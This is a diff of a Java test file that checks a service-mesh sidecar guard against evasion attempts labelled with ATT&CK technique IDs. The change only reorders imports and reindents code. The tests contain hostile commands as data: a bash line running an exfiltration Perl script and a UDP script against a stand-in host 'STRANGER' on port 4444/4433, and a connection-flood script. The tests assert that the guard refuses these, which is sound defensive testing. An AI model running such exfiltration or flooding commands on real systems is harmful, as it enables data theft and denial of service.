@@ -4,8 +4,8 @@ import static io.kith.load.evasion.Evasion.refused;
 import static io.kith.load.evasion.Evasion.seen;
 import static org.assertj.core.api.Assertions.assertThat;
 
-import io.kith.load.evasion.Evasion.Place;
 import io.kith.bridge.guard.GuardReason;
+import io.kith.load.evasion.Evasion.Place;
 import java.util.List;
 import java.util.Set;
 
@@ -77,21 +77,22 @@ final class SidecarEvasions {
                             "/tmp/payments.pem",
                             "payments:8080:STRANGER:8080"))),
         refused(
-            "A flood of connections, so that Envoy cannot ask about them all",
-            "T1499",
-            "fail-closed under enforce: what is not answered is refused",
-            it -> {
-              it.at.forget();
+                "A flood of connections, so that Envoy cannot ask about them all",
+                "T1499",
+                "fail-closed under enforce: what is not answered is refused",
+                it -> {
+                  it.at.forget();
 
-              // Not where normal work goes: who had a connection's port lately is asked about as
-              // well.
-              var said = it.perl("storm.pl", "STRANGER", "4444", "3000");
+                  // Not where normal work goes: who had a connection's port lately is asked about
+                  // as
+                  // well.
+                  var said = it.perl("storm.pl", "STRANGER", "4444", "3000");
 
-              assertThat(said.text()).contains("done");
-              assertThat(it.mesh.stranger().connections()).isEmpty();
-              io.kith.load.mesh.Mesh.await(
-                  "normal work after the flood", Intruder.LIMIT, () -> works(it));
-            })
+                  assertThat(said.text()).contains("done");
+                  assertThat(it.mesh.stranger().connections()).isEmpty();
+                  io.kith.load.mesh.Mesh.await(
+                      "normal work after the flood", Intruder.LIMIT, () -> works(it));
+                })
             .onlyIn(Place.NAMESPACES),
         seen(
             "Another container of the pod, with a program of the same path",
@@ -117,29 +118,29 @@ final class SidecarEvasions {
                   .anyMatch(id -> !own.contains(id));
             }),
         refused(
-            "A pod's first processes, before its sidecar runs",
-            "T1562.004, T1610",
-            "TCP has no sidecar to go to and fails; the guard refuses `udp`. The sidecar's user is"
-                + " counted until its container is known: use native sidecars",
-            it -> {
-              var pod = it.at.podWithoutSidecar();
-              it.at.forget();
+                "A pod's first processes, before its sidecar runs",
+                "T1562.004, T1610",
+                "TCP has no sidecar to go to and fails; the guard refuses `udp`. The sidecar's user is"
+                    + " counted until its container is known: use native sidecars",
+                it -> {
+                  var pod = it.at.podWithoutSidecar();
+                  it.at.forget();
 
-              var said =
-                  Intruder.Said.of(
-                      pod.start(
-                              0,
-                              "",
-                              it.argv(
-                                  "/bin/bash",
-                                  "-c",
-                                  "perl /tmp/exfil.pl STRANGER 4444; perl /tmp/datagram.pl STRANGER"
-                                      + " 4433"))
-                          .await(Intruder.LIMIT));
+                  var said =
+                      Intruder.Said.of(
+                          pod.start(
+                                  0,
+                                  "",
+                                  it.argv(
+                                      "/bin/bash",
+                                      "-c",
+                                      "perl /tmp/exfil.pl STRANGER 4444; perl /tmp/datagram.pl STRANGER"
+                                          + " 4433"))
+                              .await(Intruder.LIMIT));
 
-              assertThat(said.text()).contains("refused").contains("not permitted");
-              it.assertNothingArrived(said);
-            })
+                  assertThat(said.text()).contains("refused").contains("not permitted");
+                  it.assertNothingArrived(said);
+                })
             .onlyIn(Place.NAMESPACES),
         seen(
             "Through an allowed program of the pod that forwards",
